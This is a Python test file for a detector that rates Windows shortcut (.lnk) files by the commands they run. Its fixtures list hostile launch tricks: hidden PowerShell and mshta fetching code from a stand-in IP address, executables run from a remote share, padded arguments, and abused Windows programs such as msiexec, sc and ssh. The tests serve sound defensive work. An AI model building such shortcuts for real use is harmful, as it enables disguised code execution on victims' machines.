"""shortcut.command: shortcuts that run a command."""

import struct
import uuid

import pytest

from gifthorse.inspect.detectors import shortcut_command as detector
from gifthorse.model.findings import Severity
from tests.samples.files import CONTROL_PANEL, findings_of, item_of, panel_item, severities, shortcut, shortcut_by_items


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        ("C:\\Windows\\System32\\cmd.exe", "/c start pictures\\x.exe & explorer pictures"),
        ("C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -c iwr http://198.51.100.7/a"),
        ("C:\\Windows\\System32\\mshta.exe", "http://198.51.100.7/a.hta"),
        ("C:\\Windows\\System32\\rundll32.exe", "thumbs.db,Start"),
        ("C:\\Windows\\System32\\wscript.exe", "photos\\.trash\\a.vbs"),
        ("C:\\Windows\\System32\\conhost.exe", "--headless cmd /c a.bat"),
        ("C:\\Windows\\explorer.exe", "\\\\198.51.100.7\\share\\a.exe"),
    ],
)
def test_an_interpreter_with_something_to_run_is_high(target: str, arguments: str) -> None:
    (finding,) = findings_of(detector, shortcut(target, arguments), "Photos.lnk")
    assert finding.severity is Severity.HIGH
    assert finding.evidence[0].offset is not None


def test_the_offset_points_at_the_arguments() -> None:
    body = shortcut("C:\\Windows\\System32\\cmd.exe", "/c marker.exe")
    (finding,) = findings_of(detector, body, "a.lnk")
    offset = finding.evidence[0].offset
    assert offset is not None
    assert body[offset : offset + 26].decode("utf-16-le") == "/c marker.exe"


def test_an_environment_variable_hides_no_interpreter() -> None:
    assert severities(detector, shortcut("", "/c a.exe", environment="%ComSpec%"), "a.lnk") == [Severity.HIGH]


def test_arguments_pushed_out_of_sight_are_high_whatever_the_program() -> None:
    assert severities(detector, shortcut("E:\\viewer.exe", " " * 300 + "run"), "a.lnk") == [Severity.HIGH]


@pytest.mark.parametrize(
    ("target", "arguments", "expected"),
    [
        ("C:\\Users\\a\\Documents\\offer.pdf", "", []),
        ("C:\\Program Files\\Editor\\editor.exe", "", []),
        ("E:\\tools\\viewer.exe", "", [Severity.LOW]),
        ("C:\\Program Files\\Browser\\browser.exe", "--profile work", [Severity.LOW]),
        ("C:\\Windows\\explorer.exe", "/e,C:\\Data", [Severity.LOW]),
        ("C:\\Python\\python.exe", "-m idlelib", [Severity.LOW]),
    ],
)
def test_ordinary_shortcuts_weigh_little(target: str, arguments: str, expected: list[Severity]) -> None:
    assert severities(detector, shortcut(target, arguments), "a.lnk") == expected


def test_the_target_is_passed_on_for_the_whole_medium() -> None:
    facts = detector.about(item_of(shortcut("C:\\Windows\\System32\\cmd.exe", "/c a"), "a.lnk"))
    assert facts == {"shortcut-target": "C:\\Windows\\System32\\cmd.exe", "shortcut-arguments": "/c a"}


@pytest.mark.parametrize(("program", "arguments"), [("ftp.exe", "-s:notes.txt"), ("OpenSSH\\ssh.exe", "-o ProxyCommand=calc .")])
def test_programs_that_read_their_commands_from_elsewhere_are_high(program: str, arguments: str) -> None:
    (severity,) = severities(detector, shortcut(f"C:\\Windows\\System32\\{program}", arguments), "a.lnk")
    assert severity is Severity.HIGH


PANEL = b"\x2e\x80" + CONTROL_PANEL
SPECIAL = struct.pack("<IIII", 16, 0xA0000005, 3, 20)
KNOWN = struct.pack("<II", 28, 0xA000000B) + uuid.UUID("82A74AEB-AEB4-465C-A014-D097EE346D63").bytes_le + bytes(4)


@pytest.mark.parametrize(
    "body",
    [
        shortcut_by_items(PANEL, panel_item("E:\\docs\\~tmp.dll")),
        shortcut_by_items(b"\x1f\x70" + CONTROL_PANEL, panel_item("\\\\.\\STORAGE#Volume#1\\a.tmp")),
        shortcut_by_items(panel_item("E:\\a.cpl"), blocks=SPECIAL),
        shortcut_by_items(panel_item("E:\\a.cpl"), blocks=KNOWN),
        shortcut("C:\\Windows\\System32\\control.exe", "E:\\docs\\a.cpl"),
    ],
)
def test_an_item_of_the_control_panel_from_elsewhere_is_high(body):
    assert severities(detector, body, "a.lnk") == [Severity.HIGH]


@pytest.mark.parametrize(
    "body",
    [
        shortcut_by_items(PANEL, panel_item("C:\\Windows\\System32\\main.cpl")),
        shortcut_by_items(PANEL, panel_item("%SystemRoot%\\system32\\timedate.cpl")),
        shortcut_by_items(PANEL),
        shortcut_by_items(panel_item("E:\\a.cpl")),
    ],
)
def test_windows_own_items_of_the_control_panel_are_silent(body):
    assert severities(detector, body, "a.lnk") == []


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("msiexec.exe", "/package http:\\\\files.example.net\\a.msi"),
        ("msiexec.exe", "/y a.dll"),
        ("msiexec.exe", "/i a.msi /qn"),
        ("msiexec.exe", "/qn /i a.msi"),
        ("OpenSSH\\ssh.exe", "-F .\\conf x"),
        ("wsl.exe", "-e sh run"),
        ("bash.exe", "-c ./run"),
        ("wt.exe", "cmd /c run.bat"),
        ("regedit.exe", "/s a.reg"),
        ("reg.exe", "import a.reg"),
        ("sc.exe", "create x binPath= a.exe"),
        ("wuauclt.exe", "/UpdateDeploymentProvider a.dll /RunHandlerComServer"),
        ("net.exe", "use z: \\\\files.example.net\\a"),
        ("winrm.vbs", "invoke create wmicimv2/win32_process"),
        ("diskshadow.exe", "/s a.txt"),
        ("Edge\\msedge.exe", "--gpu-launcher=calc.exe"),
    ],
)
def test_a_program_of_windows_that_is_made_to_run_something_is_high(program, arguments):
    assert severities(detector, shortcut("C:\\Windows\\System32\\" + program, arguments), "a.lnk") == [Severity.HIGH]


@pytest.mark.parametrize(
    ("program", "arguments"),
    [
        ("msiexec.exe", "/x {1B2C3D4E-0000-0000-0000-000000000000}"),
        ("msiexec.exe", "/i setup.msi"),
        ("OpenSSH\\ssh.exe", "ann@server.example.org"),
        ("wsl.exe", "~"),
        ("control.exe", "desk.cpl,,3"),
        ("control.exe", "C:\\Windows\\System32\\main.cpl"),
        ("regedit.exe", "a.reg"),
        ("net.exe", "start spooler"),
    ],
)
def test_ordinary_calls_of_the_same_programs_are_a_line(program, arguments):
    assert severities(detector, shortcut("C:\\Windows\\System32\\" + program, arguments), "a.lnk") == [Severity.LOW]
